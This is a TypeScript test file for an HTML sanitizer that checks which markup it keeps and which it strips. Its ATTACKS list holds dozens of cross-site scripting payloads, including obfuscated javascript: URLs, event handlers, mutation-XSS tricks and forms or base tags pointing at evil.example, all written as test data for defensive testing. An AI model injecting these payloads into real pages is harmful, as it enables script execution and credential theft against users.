import { describe, expect, it } from 'vitest';
import { readRichText, safeHtml, saysNothing } from './richText.ts';

const LINK = ' target="_blank" rel="noopener noreferrer nofollow"';

describe('rich text keeps', () => {
  it.each([
    ['<p>One <strong>two</strong><br>three</p>', '<p>One <strong>two</strong><br>three</p>'],
    ['<H2>Head</H2><UL><LI>a</LI></UL>', '<h2>Head</h2><ul><li>a</li></ul>'],
    [
      '<a href="https://example.com/?a=1&amp;b=2">x</a>',
      `<a href="https://example.com/?a=1&amp;b=2"${LINK}>x</a>`,
    ],
    ['<a href=mailto:a@b.example>x</a>', `<a href="mailto:a@b.example"${LINK}>x</a>`],
    [
      '<table><tr><td colspan="2" rowspan=3>x</td></tr></table>',
      '<table><tr><td colspan="2" rowspan="3">x</td></tr></table>',
    ],
    ['plain a < b & c > d', 'plain a &lt; b &amp; c &gt; d'],
    ['&lt;script&gt; is &copy; &unknown; &#39;text&#x27;', "&lt;script&gt; is © &amp;unknown; 'text'"],
    ['<p>left open <b>bold', '<p>left open <b>bold</b></p>'],
  ])('%s', (given, kept) => expect(safeHtml(given)).toBe(kept));
});

/** Each as an author, or somebody in their place, would send it; what is left has nothing that acts. */
const ATTACKS: readonly [given: string, kept: string][] = [
  ['<script>alert(1)</script>x', 'x'],
  ['<ScRiPt src=//evil.example></sCrIpT >x', 'x'],
  ['<script>alert(1)', ''],
  ['<script/x>alert(1)</script/>x', 'x'],
  ['<p onclick="alert(1)" onmouseover=alert(1)>x</p>', '<p>x</p>'],
  ['<p/onclick=alert(1)>x</p>', '<p>x</p>'],
  ['<img src=x onerror=alert(1)>x', 'x'],
  ['<a href="javascript:alert(1)">x</a>', '<a>x</a>'],
  ['<a href=" java\tscript:alert(1)">x</a>', '<a>x</a>'],
  ['<a href="&#106;avascript&colon;alert(1)">x</a>', '<a>x</a>'],
  ['<a href="&#x6A&#x61vascript:alert(1)">x</a>', '<a>x</a>'],
  ['<a href="\u0001javascript:alert(1)">x</a>', '<a>x</a>'],
  ['<a href="data:text/html,<script>alert(1)</script>">x</a>', '<a>x</a>'],
  ['<a href="vbscript:x">x</a>', '<a>x</a>'],
  ['<a href="//evil.example">x</a>', '<a>x</a>'],
  ['<a href="/api/sysAuth/logout">x</a>', '<a>x</a>'],
  ['<a href="https://ok.example" href="javascript:x">x</a>', `<a href="https://ok.example"${LINK}>x</a>`],
  [
    `<a href='https://a.example/"onmouseover="alert(1)'>x</a>`,
    `<a href="https://a.example/&quot;onmouseover=&quot;alert(1)"${LINK}>x</a>`,
  ],
  ['<p style="position:fixed;background:url(javascript:x)" class="pd-button" id=root>x</p>', '<p>x</p>'],
  ['<style>@import "//evil.example"</style>x', 'x'],
  ['<iframe src="javascript:alert(1)"></iframe>x', 'x'],
  ['<iframe srcdoc="<script>alert(1)</script>"></iframe>x', 'x'],
  ['<svg onload=alert(1)><a href="javascript:x">y</a></svg>x', 'x'],
  ['<svg><style><img src=x onerror=alert(1)></style></svg>x', 'x'],
  [
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=alert(1)&gt;">',
    '',
  ],
  ['<noscript><p title="</noscript><img src=x onerror=alert(1)>">x', '&quot;&gt;x'],
  [
    '<form action="//evil.example"><input name=password><button formaction="javascript:x">go</button></form>',
    'go',
  ],
  ['<object data="javascript:x"></object><embed src="javascript:x">x', ''],
  [
    '<base href="//evil.example/"><meta http-equiv=refresh content="0;url=//evil.example"><link rel=stylesheet href=x>x',
    'x',
  ],
  ['<template><script>alert(1)</script></template>x', 'x'],
  ['<textarea><script>alert(1)</script></textarea>x', 'x'],
  ['<<script>alert(1)//<</script>x', '&lt;x'],
  ['<p title="><script>alert(1)</script>">x</p>', '<p>x</p>'],
  ['<!--><script>alert(1)</script>-->x', 'x'],
  ['<!-- --!><script>alert(1)</script>-->x', 'x'],
  ['<![CDATA[<script>alert(1)</script>]]>x', 'alert(1)]]&gt;x'],
  ['<?php <script>alert(1)</script> ?>x', 'alert(1) ?&gt;x'],
  ['<p <script>alert(1)</script>', '<p>alert(1)</p>'],
  ['<scr<script>ipt>alert(1)</script>', 'ipt&gt;alert(1)'],
  ['<custom-element is=x>y</custom-element>', 'y'],
  ['<td colspan="2 onclick=x">y</td>', '<td>y</td>'],
  ['<constructor __proto__=x>y</constructor><a constructor=x>y</a>', 'y<a>y</a>'],
  ['<p onclick="alert(1)', ''],
];

describe('rich text drops', () => {
  it.each(ATTACKS)('%s', (given, kept) => expect(safeHtml(given)).toBe(kept));

  it('the same when what was kept is read again, also as a browser reads it', () => {
    for (const [given] of ATTACKS) {
      const once = safeHtml(given);
      expect(safeHtml(once)).toBe(once);
      expect(once).not.toMatch(/<(?!\/?(?:p|a|td|br)\b)/);
    }
  });
});

it('makes no markup of pieces put together at random', () => {
  const pieces = [
    '<',
    '>',
    '"',
    "'",
    '=',
    '/',
    '!',
    '--',
    '&lt;',
    '&#60;',
    'script',
    'svg',
    'style',
    'p',
    'a href',
    'onerror',
    ' ',
    'javascript:',
    'x',
  ];
  let seed = 7;
  const pick = () => pieces[(seed = (seed * 48_271) % 2_147_483_647) % pieces.length]!;
  for (let round = 0; round < 5_000; round += 1) {
    const given = Array.from({ length: 14 }, pick).join('');
    const once = safeHtml(given);
    expect(safeHtml(once), given).toBe(once);
    expect(
      once.replace(
        /<\/?(?:p|a|s)>|<a href="[^"<>]*" target="_blank" rel="noopener noreferrer nofollow">/g,
        '',
      ),
      given,
    ).not.toMatch(/[<>]/);
  }
});

it('takes time in step with the length, however it is written', () => {
  for (const piece of [
    '<',
    '<p ',
    '<p x="',
    "<a href='",
    '<!--',
    '<script>',
    '</p',
    '&#',
    '<p>',
    '<p a=" b',
    '<b><i>',
    '<a =',
    ' \t',
  ]) {
    const started = performance.now();
    safeHtml(piece.repeat(20_000));
    expect(performance.now() - started, piece).toBeLessThan(1_500);
  }
});

it('flattens what is too deep, and knows what has nothing to read', () => {
  let deepest = 0;
  let level = readRichText('<div>'.repeat(500) + 'x');
  for (; level.length > 0 && typeof level[0] === 'object'; level = level[0].children) deepest += 1;
  expect(deepest).toBe(30);
  expect([saysNothing('<p> <br></p>'), saysNothing('<script>x</script>'), saysNothing('<p>x</p>')]).toEqual([
    true,
    true,
    false,
  ]);
});

it('keeps pictures where they are asked for, and only those whose bytes it holds', () => {
  const own = '<img alt="a" src="data:image/png;base64,iVBORw0KGgo=">';
  expect(safeHtml(own)).toBe('');
  expect(readRichText(`<p>${own}x</p>`, { pictures: true })).toEqual([
    {
      tag: 'p',
      attributes: {},
      children: [
        { tag: 'img', attributes: { alt: 'a', src: 'data:image/png;base64,iVBORw0KGgo=' }, children: [] },
        'x',
      ],
    },
  ]);
  for (const other of [
    'https://evil.example/a.png',
    'data:image/svg+xml;base64,PHN2Zz4=',
    'data:image/png;base64,"onerror=x',
    'data:text/html,x',
    'javascript:x',
  ])
    expect(readRichText(`<img src='${other}' onerror="x()">`, { pictures: true })).toEqual([]);
});
